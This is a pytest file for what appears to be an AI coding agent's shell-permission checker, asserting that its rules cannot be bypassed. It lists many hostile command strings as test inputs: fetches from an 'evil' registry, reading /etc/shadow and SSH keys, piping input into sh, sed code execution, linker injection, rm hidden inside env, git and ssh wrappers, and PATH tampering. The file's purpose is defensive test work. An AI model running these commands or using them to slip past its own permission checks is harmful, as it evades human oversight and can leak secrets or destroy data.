"""Holes that a review found, each with its kin: none may open again."""

from __future__ import annotations

import os
from collections.abc import Sequence

import pytest

from outrider.coding.permissions.file_access import is_hidden
from outrider.coding.permissions.question import MODES, Mode
from outrider.coding.permissions.shell.short_list import _COMMANDS as COMMANDS
from tests.coding.permissions.workspace import Ground


@pytest.fixture
def burrow(own_ground: Ground) -> Ground:
    """A ground where `far/../…/dev/null` is /dev/null by its text, and another file in truth."""
    depth = len(own_ground.work.parts) - 1
    inner = own_ground.work / "a" / "b"
    deep = inner.joinpath(*["d"] * (depth + 1))
    deep.mkdir(parents=True)
    (own_ground.work / "far").symlink_to(deep)
    (inner / "dev").mkdir()
    (inner / "dev/null").symlink_to(own_ground.work / ".env")
    (inner / "dev/stdout").symlink_to(own_ground.outside / "other.txt")
    return own_ground


@pytest.mark.parametrize("mode", MODES)
def test_a_device_is_known_by_its_name_alone(burrow: Ground, mode: Mode) -> None:
    up = "far/" + "../" * (len(burrow.work.parts))
    assert os.path.normpath(burrow.work / f"{up}dev/null") == "/dev/null"
    assert os.path.realpath(burrow.work / f"{up}dev/null") == str(burrow.work / ".env")
    for command in (f"cat {up}dev/null", f"cat < {up}dev/null", f"echo x >> {up}dev/null"):
        assert burrow.bash(command, mode).verdict == "deny"
    outside = burrow.bash(f"echo x >> {up}dev/stdout", mode).verdict
    assert outside == {"plan": "deny", "all": "allow"}.get(mode, "ask")
    assert burrow.bash("cat < /dev/null 2> /dev/null", mode).verdict == "allow"


@pytest.mark.parametrize("mode", MODES)
def test_an_option_does_not_swallow_a_file_that_the_command_reads(ground: Ground, mode: Mode) -> None:
    for command in ("od -An -c -w .env", "od -w .env", "od -cw .env", "od -vw .env"):
        assert ground.bash(command, mode).verdict == "deny"


@pytest.mark.parametrize("name", sorted(name for name, options in COMMANDS.items() if not options.operands))
def test_no_option_swallows_a_path(ground: Ground, name: str) -> None:
    """The word behind an option is a file, unless every version of the command takes a text there."""
    options = COMMANDS[name]
    pattern = "x " * options.leading
    for letter in options.flags + options.counted:
        for path in (f"{ground.outside}/other.txt", ".env"):
            form = f"{name} {pattern}-{letter} {path}"
            assert ground.bash(form).verdict != "allow", form


SETTING = (
    "printf '%30d%n' 0 PATH; ls",
    "printf '%n' PATH",
    "printf '%ln' PATH",
    "printf '%-5n' PATH",
    "printf '%*n' 5 PATH",
    "printf '%.3n' PATH",
    "printf 'a\\%n' PATH",
    "printf '%%%n' PATH",
    "printf '%('",
    "command printf '%n' PATH",
    "builtin printf '%n' PATH",
    "printf -v PATH .",
    "printf -- '%n' PATH",
    "printf %s%n a PATH",
    'printf "%n" PATH',
    "printf $'%n' PATH",
    'printf "$x" PATH',
    "read PATH <<< .; ls",
    "read -r PATH < notes.txt",
    "getopts a PATH -a .",
    "mapfile PATH < notes.txt",
    "readarray -t PATH < notes.txt",
    "declare -n x=PATH; x=.",
    "declare PATH=.",
    "typeset -n x=PATH",
    "local PATH=.",
    "export PATH",
    "readonly x=1",
    ": ${PATH:=.}",
    ": ${x:=.}",
    "echo ${PATH=.}",
    "echo ${x@A}",
    "for PATH in . src; do ls; done",
    "for IFS in a; do ls; done",
    "for BASH_ENV in notes.txt; do ls; done",
    "for ((PATH=1;;)); do ls; done",
    "((PATH=1))",
    "echo $((PATH=1))",
    "echo $((PATH++))",
    "echo $[PATH=1]",
    "let PATH=1",
    "wait -p PATH -n",
    "wait -n -p PATH",
    "coproc PATH { ls; }",
    "exec {PATH}> notes.txt",
    "ls {PATH}< notes.txt",
    "select PATH in .; do ls; done",
    "PATH=.",
    "PATH+=:.",
    "IFS=/",
    "BASH_ENV=notes.txt",
    "ENV=notes.txt",
    "CDPATH=/etc; cd src && ls",
    "GLOBIGNORE=x",
    "SHELLOPTS=x",
    "BASHOPTS=x",
    "histchars=abc",
    "auto_resume=x",
    "x=1 PATH=. ls",
    "PATH=. x=1; ls",
    "x=1; unset PATH; ls",
    "trap 'PATH=.' EXIT",
    "eval PATH=.",
    "test -v 'a[$(id)]'",
    "[ -v 'a[$(id)]' ]",
    "test -R x",
)


@pytest.mark.sampled(60)
@pytest.mark.parametrize("mode", ["ask", "edits", "plan"])
@pytest.mark.parametrize("command", SETTING)
def test_no_command_sets_what_leads_the_next_one(ground: Ground, command: str, mode: Mode) -> None:
    rules = [f"Bash({name}:*)" for name in ("printf", "test", "[", "wait", "read", "getopts", "mapfile", "ls", "let")]
    rules += [f"Bash({name}:*)" for name in ("readarray", "export", "declare", "unset", "eval", "trap", "set")]
    assert ground.bash(command, mode).verdict != "allow"
    assert ground.bash(command, mode, allow=rules).verdict != "allow"


STANDING_ELSEWHERE = (
    ("cd src && git status", "Bash(git status:*)"),
    ("cd src && git status", "Bash(git status)"),
    ("cd src; git status", "Bash(git status:*)"),
    ("cd src\ngit status", "Bash(git status:*)"),
    ("(cd src && make test)", "Bash(make test:*)"),
    ("cd src && npm test", "Bash(npm test:*)"),
    ("cd src && python3 x.py", "Bash(python3 x.py)"),
    ("cd src && pytest", "Bash(pytest:*)"),
    ("cd src && timeout 5 pytest", "Bash(pytest:*)"),
    ("cd src && find . -name x -delete", "Bash(find . -name x -delete)"),
    ("cd src && cd .. && git status", "Bash(git status:*)"),
    ("cd not_there; git status", "Bash(git status:*)"),
    ("{work} cd src && git status", "Bash(git status:*)"),
    ("false && cd {work}; git status", "Bash(git status:*)"),
)


@pytest.mark.parametrize(("command", "rule"), STANDING_ELSEWHERE)
def test_a_rule_holds_only_where_it_was_agreed(ground: Ground, command: str, rule: str) -> None:
    command = command.replace("{work} ", f"cd {ground.work} && ").replace("{work}", str(ground.work))
    policy = ground.policy(allow=[rule])
    assert ground.decide(policy, "Bash", command=command, cwd=ground.work / "src").verdict == "ask"
    if "false" not in command:
        assert ground.decide(policy, "Bash", command=command).verdict == "ask"


def test_a_rule_does_not_hold_in_a_later_call_of_a_shell_that_moved(ground: Ground) -> None:
    for rule in ("Bash(git status)", "Bash(git status:*)"):
        policy = ground.policy(allow=[rule])
        assert ground.decide(policy, "Bash", command="git status").verdict == "allow"
        moved = ground.decide(policy, "Bash", command="git status", cwd=ground.work / "src")
        assert (moved.verdict, moved.always) == ("ask", ())


@pytest.mark.parametrize("move", ["pushd src", "popd", "eval 'cd src'", "trap 'cd src' DEBUG"])
def test_no_rule_holds_after_a_move_that_cannot_be_followed(ground: Ground, move: str) -> None:
    rules = [f"Bash({move})", "Bash(git status:*)"]
    assert ground.bash(move, allow=rules).verdict == "allow"
    assert ground.bash(f"{move}; git status", allow=rules).verdict == "ask"
    assert ground.bash("source x && git status", allow=["Bash(source x)", *rules]).verdict == "ask"


def test_the_whole_text_can_be_agreed_to_where_the_shell_stands_in_the_folder(ground: Ground) -> None:
    command = "cd src && pytest"
    assert ground.bash(command).always == ("Bash(cd src && pytest) full",)
    policy = ground.policy(allow=["Bash(cd src && pytest)"])
    assert ground.decide(policy, "Bash", command=command).verdict == "allow"
    assert ground.decide(policy, "Bash", command=command, cwd=ground.work / "docs").verdict == "ask"


def test_what_obeys_no_files_may_be_used_elsewhere(ground: Ground) -> None:
    assert ground.bash("cd src && ls && cat main.py").verdict == "allow"


def test_a_shell_may_come_back_to_the_folder(ground: Ground) -> None:
    policy = ground.policy(allow=["Bash(git status:*)", "Bash(git diff:*)"])
    elsewhere = ground.work / "src"
    for command in (f"cd {ground.work} && git status 2>&1 | tail -5", f"cd {ground.work} && git status && git diff"):
        assert ground.decide(policy, "Bash", command=command).verdict == "allow"
        assert ground.decide(policy, "Bash", command=command, cwd=elsewhere).verdict == "allow"
    for command in (
        f"cd {ground.work} & git status",
        f"cd {ground.work} && ls & git status",
        f"cd {ground.work} | cat; git status",
        f"cd {ground.work} | git status",
        f"cd {ground.work} | cat && git status",
        f"(cd {ground.work}); git status",
        f"cd {ground.work} > x && git status",
        f"! cd {ground.work}; git status",
    ):
        assert ground.decide(policy, "Bash", command=command, cwd=elsewhere).verdict == "ask", command


FED = (
    ("python3 <<'E'\nprint(1)\nE", "Bash(python3)"),
    ("python3 - <<'E'\nprint(1)\nE", "Bash(python3 -)"),
    ("python3.11 < evil.py", "Bash(python3.11)"),
    ("python3 0< evil.py", "Bash(python3:*)"),
    ("/usr/bin/python3 < evil.py", "Bash(/usr/bin/python3)"),
    ("node <<< 'x'", "Bash(node)"),
    ("echo id | sh", "Bash(sh)"),
    ("echo id |& sh", "Bash(sh)"),
    ("echo id | timeout 5 sh", "Bash(sh)"),
    ("echo id | env sh", "Bash(env sh)"),
    ("echo id | { sh; }", "Bash(sh)"),
    ("echo id | (sh)", "Bash(sh)"),
    ("echo id | if true; then sh; fi", "Bash(sh)"),
    ("echo id | while true; do sh; done", "Bash(sh)"),
    ("echo id | echo $(sh)", "Bash(sh)"),
    ("{ sh; } < notes.txt", "Bash(sh)"),
    ("(sh) <<< id", "Bash(sh)"),
    ("if true; then sh; fi < notes.txt", "Bash(sh)"),
    ("cat <<E | sh\nid\nE", "Bash(sh)"),
    ("cat notes.txt | cat | sh", "Bash(sh)"),
    ("bash -s < notes.txt", "Bash(bash -s)"),
    ("bash <&3", "Bash(bash)"),
    ("cat notes.txt | xargs rm", "Bash(xargs rm)"),
    ("echo x | xargs -n1 rm", "Bash(xargs -n1 rm:*)"),
    ("echo x | sqlite3 db", "Bash(sqlite3 db)"),
    ("echo x | psql", "Bash(psql:*)"),
    ("echo x | ssh host", "Bash(ssh host)"),
    ("echo x | docker exec -i c sh", "Bash(docker exec -i c sh)"),
    ("echo x | ./run", "Bash(./run)"),
    ("echo x | unheard-of", "Bash(unheard-of)"),
    ("git apply < notes.txt", "Bash(git apply)"),
    ("patch -p1 < notes.txt", "Bash(patch -p1)"),
    ("echo x | awk -f -", "Bash(awk -f -)"),
)


@pytest.mark.parametrize(("command", "rule"), FED)
def test_a_rule_for_a_program_does_not_hold_for_what_it_is_fed(ground: Ground, command: str, rule: str) -> None:
    assert ground.bash(command, allow=[rule, "Bash(true)"]).verdict == "ask"
    offered = ground.bash(command).always
    assert rule not in offered
    assert offered in ((), (f"Bash({command}) full",))


@pytest.mark.parametrize(
    ("command", "rules"),
    [
        ("make test 2>&1 | tail -5", ["Bash(make test:*)"]),
        ("python3 x.py | tail -5", ["Bash(python3 x.py)"]),
    ],
)
def test_data_may_be_fed(ground: Ground, command: str, rules: Sequence[str]) -> None:
    assert ground.bash(command, allow=rules).verdict == "allow"


def test_a_search_leaves_out_what_cannot_be_judged(ground: Ground) -> None:
    policy = ground.policy("all")
    assert is_hidden(policy, "caf\udce9/.env")
    assert is_hidden(policy, "caf\udce9/x.py")
    assert is_hidden(policy, "to_loop")
    assert is_hidden(policy, "a\0b")


def test_a_search_leaves_out_what_a_rule_asks_about(ground: Ground) -> None:
    for tool in ("Read", "Grep", "Glob"):
        policy = ground.policy("all", ask=[f"{tool}(docs/**)"])
        assert is_hidden(policy, "docs/a.md")
        assert not is_hidden(policy, "src/main.py")
    assert not is_hidden(ground.policy(ask=["Edit(docs/**)", "Bash(docs/**)"]), "docs/a.md")


TRAPPED = (
    "ruff check -o{outside}/rc",
    "ruff check -o x",
    "ruff check -o=x",
    "ruff check --output-file=x",
    "ruff format to_outside/sub",
    "ruff format {outside}",
    "git commit -F{outside}/note",
    "git commit -aF{outside}/note",
    "git commit -F ../note",
    "git commit -F to_outside/other.txt",
    "git blame -S/etc/passwd x",
    "git archive -o/root/x HEAD",
    "git archive -o /root/x HEAD",
    "git archive -o to_outside/x HEAD",
    "git diff to_outside/other.txt notes.txt",
    "git add --pathspec-from-file=/etc/passwd",
    "git remote-ext x 'sh -c id'",
    "git merge-index id -a",
    "git fetch 'ext::sh -c id'",
    "git clone --config core.fsmonitor=id x",
    "git -c x=y log",
    "pytest --junitxml=x.xml",
    "pytest --junit-xml x.xml",
    "pytest @args",
    "pytest --pyargs os",
    "pytest to_outside",
    "pytest to_outside/test_x.py::test_y",
    "pytest --cov-report=html:/root/x",
    "pytest --pastebin=all",
    "pytest --tx popen//python=./x",
    "go build -ldflags='-linkmode=external -extld=./evil' .",
    "go build -ldflags -extld=./evil .",
    "go build --gcflags=x .",
    "go test -coverprofile=x .",
    "go test -cpuprofile x .",
    "go test -c .",
    "go test -test.cpuprofile=x",
    "go vet ../outside",
    "npm ci --registry=http://evil",
    "npm ci --regis http://evil",
    "npm test --script-shell=./x",
    "npm test --git=./x",
    "npm test -w src",
    "npm test --workspace=src",
    "pnpm test --filter x",
    "yarn test --registry x",
    "bun test --preload ./x",
    "bun test -r./x",
    "cargo fmt -- --config-path=/x",
    "cargo test -Zunstable-options",
    "cargo test --target-dir=/x",
)


@pytest.mark.parametrize("command", TRAPPED)
def test_attached_options_are_no_way_around_the_traps(ground: Ground, command: str) -> None:
    command = command.replace("{outside}", str(ground.outside))
    words = command.split()
    rules = [f"Bash({words[0]}:*)"] + ([] if words[0] == "pytest" else [f"Bash({words[0]} {words[1]}:*)"])
    assert ground.bash(command, allow=rules).verdict == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "ruff check --fix src",
        "git commit -am 'fix: the thing, see https://example.com/x'",
        "git log --oneline -n5 -- src",
        "npm test -- --watch=false",
        "cargo test --all -- --nocapture",
    ],
)
def test_options_need_a_rule_that_says_so(ground: Ground, command: str) -> None:
    words = command.split()
    assert ground.bash(command, allow=[f"Bash({words[0]} {words[1]}:*)"]).verdict == "ask"
    assert ground.bash(command, allow=[f"Bash({words[0]} {words[1]}:**)"]).verdict == "allow"


WIDER_THAN_THEY_LOOK = (
    ("Bash(npm test:*)", 'npm test "-node-options=--import=data:text/javascript,x"'),
    ("Bash(npm test:*)", "npm test ---node-options=--require=./x"),
    ("Bash(npm test:*)", "npm test -script-shell=./x"),
    ("Bash(npm test:*)", "npm test -prefix=../x"),
    ("Bash(npm test:*)", "npm test -userconfig=x"),
    ("Bash(npm test:*)", "npm test --node-options=x"),
    ("Bash(npm test:*)", "npm test \u2010\u2010prefix"),
    ("Bash(npm test:*)", "npm test \u2013prefix=x"),
    ("Bash(ruff check:*)", "ruff check --fix"),
    ("Bash(ruff check:*)", "ruff check src --fix"),
    ("Bash(git:*)", "git credential-store get"),
    ("Bash(git:*)", "git submodule--helper foreach id"),
    ("Bash(git:*)", "git log"),
    ("Bash(git log:*)", "git log --output=x"),
    ("Bash(git log:*)", "git log -ox"),
    ("Bash(git fetch:*)", "git fetch ext::./x"),
    ("Bash(tar:*)", "tar tIf ./evil.sh x.tar"),
    ("Bash(tar:*)", "tar xf x.tar"),
    ("Bash(bat:*)", "bat --pager ./x notes.txt"),
    ("Bash(bat:*)", "bat --pager=./x notes.txt"),
    ("Bash(yq:*)", "yq -i .a=1 x.yml"),
    ("Bash(yq:*)", "yq .a x.yml"),
    ("Bash(less:*)", "less --LOG-FILE=x notes.txt"),
    ("Bash(less:*)", "less +!id notes.txt"),
    ("Bash(sed:*)", "sed wx notes.txt"),
    ("Bash(sed -n:*)", "sed -n '1e id' notes.txt"),
    ("Bash(awk:*)", "awk 'BEGIN{system(1)}'"),
    ("Bash(python3:*)", "python3 evil.py"),
    ("Bash(python3.12:*)", "python3.12 evil.py"),
    ("Bash(make test:*)", "make test deploy"),
    ("Bash(make test:*)", "make test CC=./x"),
    ("Bash(vim:*)", "vim +!id notes.txt"),
    ("Bash(curl:*)", "curl https://example.com/x"),
    ("Bash(rsync:*)", "rsync host:/etc/passwd src"),
    ("Bash(dd:*)", "dd of=x"),
    ("Bash(timeout 5:*)", "timeout 5 forbidden"),
    ("Bash(sudo -u bob:*)", "sudo -u bob forbidden"),
)


@pytest.mark.parametrize(("rule", "command"), WIDER_THAN_THEY_LOOK)
def test_further_arguments_do_not_change_what_a_rule_means(ground: Ground, rule: str, command: str) -> None:
    for sandboxed, access in ((False, "read"), (True, "write")):
        decision = ground.bash(command, allow=[rule], sandboxed=sandboxed, access=access)
        assert decision.verdict == "ask"
        assert rule not in decision.always


RAN_CODE = (
    'echo "touch PWNED; id/" | sed "s/[/]/;/e#/p"',
    'sed "s/[/]/;/e#/p" notes.txt',
    "sed 's/[/]/;/w p/p' notes.txt",
    "sed -n 's/[/]/;/w p/p' notes.txt",
    "sed -n '1,2w x' notes.txt",
    "sed -n 1p -i notes.txt",
    "sed -n 1p --in-place notes.txt",
    "sed -n 1p -e '1e id' notes.txt",
    "sed -n '1p;1e id' notes.txt",
    "sed -n '1p\n1e id' notes.txt",
    "sed -ni 1p notes.txt",
    'echo "$pgpassword"; pgpassword=1',
    'pgpassword=1; echo "$pgpassword"',
    "echo $pgpassword",
)


@pytest.mark.parametrize("command", RAN_CODE)
def test_scripts_and_variables_are_not_plain(ground: Ground, command: str) -> None:
    for mode in ("ask", "edits", "plan"):
        for rules in ((), ("Bash(sed:*)", "Bash(sed -n:*)", "Bash(echo:*)")):
            assert ground.bash(command, mode, allow=rules).verdict != "allow"


@pytest.mark.parametrize(
    "command",
    [
        "ls -RL",
        "ls -R -L .",
        "ls -L --recursive",
        "ls --dereference -R",
        "du -aL .",
        "du -L",
        "du --dereference",
        "tree -l",
        "find -L .",
        "find . -follow",
        "echo ~+/../outside/*",
        "echo ~-/*",
        "echo ~root/*",
        "echo ~+/*",
        "echo ~'root'/*",
        "echo ~",
        "ls ~root",
        "cat ~+/../outside/other.txt",
        "for f in ~+/../*; do echo; done",
        "for f in ~root/*; do echo; done",
        "test -s /root/.bashrc",
        "test -r /etc/passwd",
        "[ -e ../outside/other.txt ]",
        "[ ! -e ../outside/other.txt ]",
        "[ -f to_file ]",
        "[ notes.txt -nt /etc/passwd ]",
        "test /etc/passwd -ef notes.txt",
        'x=/etc/passwd; test -f "$x"',
        "which /root/x",
        "type -P ../outside/x",
        "command -v ../outside/x",
        "cd src && [ -e ../../outside ]",
    ],
)
def test_nothing_outside_is_looked_at_unasked(ground: Ground, command: str) -> None:
    for mode in ("ask", "edits", "plan"):
        assert ground.bash(command, mode).verdict != "allow"


def test_a_secret_is_not_probed(ground: Ground) -> None:
    for command in ("test -r /etc/shadow", "[ -s .env ]", "cat ~root/.ssh/id_rsa"):
        for mode in MODES:
            assert ground.bash(command, mode).verdict == "deny", command


CARRIED = (
    "env -S 'rm x'",
    "env -S'rm x'",
    "env --split-string='rm x'",
    "su -c 'rm x'",
    "su root -c 'ls; rm x'",
    "script -qc 'rm x' /dev/null",
    "watch 'rm x'",
    "watch -n 1 'ls && rm x'",
    "flock l -c 'rm x'",
    "flock l rm x",
    "ssh host 'rm x'",
    "parallel 'rm {}' ::: x",
    "git -c alias.x='!rm x' x",
    "git -c core.pager='rm x' log",
    "git rebase -x 'rm x' HEAD",
    "git rebase --exec='rm x' HEAD",
    "git submodule foreach rm x",
    "git submodule foreach 'rm x'",
    "git bisect run rm x",
    "prlimit rm x",
    "setpriv rm x",
    "fakeroot rm x",
    "numactl rm x",
    "torsocks rm x",
    "cgexec -g a rm x",
    "tsp rm x",
    "conda run rm x",
    "nix-shell --run 'rm x'",
    "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
    "tmux new -d 'rm x'",
    "sg users -c 'rm x'",
    "alias q='rm x'",
    "xargs sh -c 'rm x'",
    "cd not_there; sh -c 'rm x'",
)


@pytest.mark.parametrize("command", CARRIED)
def test_a_denied_command_is_found_wherever_it_is_carried(ground: Ground, command: str) -> None:
    for mode in MODES:
        assert ground.bash(command, mode, allow=("Bash",), deny=("Bash(rm:*)",)).verdict == "deny"
    assert ground.bash(command, "all").verdict == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "echo rm x | sh",
        "bash <<< 'rm x'",
        "bash <<E\nrm x\nE",
        "sh < notes.txt",
        "echo rm x | sudo sh",
        "echo 'rm x' | at now",
        "echo rm x | ssh host",
        "echo rm x | xargs env",
        "echo rm x | xargs sh -c",
        "echo rm | xargs -I{} {} x",
        "echo rm x | { sh; }",
    ],
)
def test_a_shell_that_is_fed_is_asked_about_where_something_is_denied(ground: Ground, command: str) -> None:
    assert ground.bash(command, "all", deny=("Bash(rm:*)",)).verdict in ("ask", "deny")
    assert ground.bash(command, "all", ask=("Bash(rm:*)",)).verdict == "ask"
    assert ground.bash(command, "all").verdict == "allow"


def test_ordinary_carriers_run_where_something_is_denied(ground: Ground) -> None:
    for command in (
        "find . -name '*.py' | xargs grep foo",
        "sudo apt-get install 'a b'",
        "git commit -m 'rm x'",
        "uv run pytest -k 'not (a or b)'",
    ):
        assert ground.bash(command, "all", deny=("Bash(rm:*)",)).verdict == "allow", command


@pytest.mark.parametrize(
    "command",
    [
        "cp a doc?/x",
        "touch d*/a.md",
        "rm -r d*",
        "rm -r *",
        "rm -r ./d[o]cs",
        "rm -r {src,doc?}",
        "cp a */a.md",
        "tee doc?/x",
        "cd src && rm -r ../d*",
        "echo x > doc?/a.md",
        "mv [^s]* src",
        "mv --target=doc* x",
    ],
)
def test_a_glob_does_not_reach_what_is_denied(ground: Ground, command: str) -> None:
    for tool in ("Edit", "Write"):
        assert ground.bash(command, "all", deny=(f"{tool}(docs/**)",)).verdict != "allow"
        assert ground.bash(command, "all", ask=(f"{tool}(docs/**)",)).verdict == "ask"
    assert ground.bash("cp a sr*/x", "all", deny=("Edit(docs/**)",)).verdict == "allow"


def test_patterns_that_would_take_long_are_decided_at_once(ground: Ground) -> None:
    for command in ("rm *a*a*a*a*a*a*b", "rm " + "s* " * 100, "rm /usr/*/*/*"):
        assert "could not be checked" not in ground.bash(command, "all", deny=("Edit(docs/**)",)).reason


def test_a_path_that_a_rule_asks_about_is_asked_about_as_an_argument(ground: Ground) -> None:
    for command in ("cp a docs/x", "rm -r docs", "dd of=docs/x", "cd docs && touch x"):
        assert ground.bash(command, "all", ask=("Edit(docs/**)",)).verdict == "ask"
        assert ground.bash(command, "all", deny=("Write(docs/**)",)).verdict == "deny"


def test_a_glob_that_stands_for_a_secret_is_asked_about_at_least(ground: Ground) -> None:
    for command in ("cat *", "cp * /tmp", "cat serv*", "tar cf x *"):
        assert ground.bash(command, "all").verdict != "allow"
    assert ground.bash("cat *.txt", "all").verdict == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "git log -p -- '.e*'",
        "git log -p '.e*'",
        "git log -p -- '*.pem'",
        "git log -p -- ':(glob).e*'",
        "git log -p -- ':(glob)**/.e*'",
        "git log -p -- ':/.e*'",
        "git log -p -- ':(icase).ENV'",
        "git log -p -- ':(top,icase).ENV'",
        "git show HEAD -- '.en?'",
        "git diff HEAD -- 'src/.e*'",
        "git log -p -- \\.e\\*",
        "find . -name '.e*' -exec cat {} +",
        "rg . -uu -g '.e*'",
        "rg . -uu -g'.e*'",
        "rg . -uu --glob='.e*'",
        "grep -r . --include='.e*' .",
    ],
)
def test_a_pattern_of_a_program_does_not_look_for_secrets(ground: Ground, command: str) -> None:
    rules = ("Bash(git log:*)", "Bash(git show:*)", "Bash(git diff:*)", "Bash(find:*)", "Bash(rg:*)", "Bash(grep:*)")
    for mode in MODES:
        assert ground.bash(command, mode, allow=rules).verdict == "deny"


def test_ordinary_patterns_of_programs(ground: Ground) -> None:
    for command in ("git log -p -- '*.py'", "git diff -- . ':!*.lock'", "rg -g '*.md' x", "git log --grep='[a-z]*'"):
        assert ground.bash(command, allow=("Bash(git:**)", "Bash(rg:**)")).verdict == "allow", command
